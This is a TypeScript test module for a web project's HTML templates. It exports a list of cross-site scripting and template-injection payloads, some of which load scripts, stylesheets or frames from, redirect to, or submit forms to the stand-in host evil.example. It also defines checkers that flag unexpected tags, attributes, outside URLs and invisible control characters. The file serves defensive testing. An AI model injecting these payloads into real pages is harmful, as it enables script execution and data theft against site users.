import { everyElement, readHtml } from './html.ts'

/** Texts that would be more than text on a page that is made carelessly. */
export const payloads = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  `' autofocus onfocus=alert(1) x='`,
  '" style="background:url(//evil.example)" y="',
  '</title><script>alert(1)</script>',
  '</code></div></section><iframe srcdoc=x>',
  '--><b>bold</b><!--',
  '&lt;script&gt;&#60;b&#62;&amp;quot;',
  'javascript:alert(1)//',
  '<%= process.env %>{{7*7}}\u0024{7*7}',
  ']]><x:script/>',
  '\u202ereversed\u202c \u2066isolated\u2069',
  '\x1b[31mred\x07\x08',
  // Elements that run, load, frame, refresh or submit.
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script/src=//evil.example/x.js>',
  '<script\x0ctype=module>import("//evil.example")</script>',
  '<<script>alert(1)//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,x#x">',
  '<math><mtext><table><mglyph><style><img src onerror=alert(1)>',
  '<math href="javascript:alert(1)">click</math>',
  '<iframe src=javascript:alert(1)>',
  '<object data="//evil.example/x.swf">',
  '<embed src=//evil.example>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css";*{display:none}</style>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action=//evil.example><button>go</button></form>',
  '<input formaction=javascript:alert(1) type=image src=x onerror=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary>',
  '<video><source onerror=alert(1)></video>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a ping=//evil.example href=/>x</a>',
  '<portal src=//evil.example>',
  '<dialog open>x</dialog>',
  // Ends of what a text may stand in.
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '</option></select><img src=x onerror=alert(1)>',
  '</mark><mark onclick=alert(1)>',
  '--!><script>alert(1)</script>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml"/>',
  '`onmouseover=alert(1) x=`',
  `"onpointerenter="alert(1)`,
  `x' data-url='//evil.example' y='`,
  // What is read otherwise by somebody else: entities, escapes, other alphabets, templates.
  '&#60script&#62alert(1)&#60/script&#62',
  '&lt;img src=x onerror=alert(1)&gt;&NewLine;&colon;',
  '\\u003cscript\\u003e \\x3cscript\\x3e %3Cscript%3E',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e \u02bascript',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<%- 1 %><%~ it %><? echo 1 ?>#{7*7}{%x%}[[x]]',
  '__proto__[x]=<b>constructor.prototype</b>',
  '\u2028alert(1)\u2029 \ufeff<b>',
]

/** What our templates use, and nothing else. */
const tags = new Set(
  'html head meta title link script body a article header main footer form div input button label select option details summary nav h1 h2 h3 p span code pre section ul li table thead tbody tr th td mark strong b dl dt dd time del ins ol'.split(
    ' ',
  ),
)
const attributes = new Set(
  'action aria-current aria-haspopup aria-hidden aria-label aria-labelledby aria-pressed async autocapitalize autocomplete autocorrect autofocus charset checked class colspan content data-api data-clear data-code data-copies data-copy data-count data-end data-extend data-file data-filter data-follows data-from data-keeps-lines data-kind data-language data-line data-lines data-one data-path data-patience data-range data-ranges data-reason data-repo data-revision data-share data-source data-stopped-by data-to data-url data-view datetime download for hidden href id lang maxlength name open placeholder property rel required role scope selected size spellcheck src tabindex title type value'.split(
    ' ',
  ),
)

/** Everything on a page that is not ours. */
export function foreign(html: string): readonly string[] {
  return [...everyElement(readHtml(html))].flatMap((element) => {
    const { tag } = element
    const found = tags.has(tag) ? [] : [`<${tag}>`]
    for (const [name, value] of Object.entries(element.attributes)) {
      if (!attributes.has(name)) found.push(`${tag} ${name}`)
      const isUrl = name === 'href' || name === 'src' || name === 'action'
      const isOurs =
        /^(\/(?!\/)|#)/.test(value) || value === 'https://github.com/BurntSushi/ripgrep'
      if (isUrl && !isOurs) found.push(`${tag} ${name}=${value}`)
    }
    if (tag === 'script' && element.children.length > 0) found.push('an inline script')
    return found
  })
}

/** Texts in which a character would not show, or would turn the others. */
export function misleading(html: string): readonly string[] {
  return [...everyElement(readHtml(html))]
    .filter(({ attributes }) => attributes.class !== 'ctl')
    .flatMap(({ children }) => children.filter((child) => typeof child === 'string'))
    .filter((text) => /(?![\n\t])[\p{Cc}\p{Cf}]/u.test(text))
}
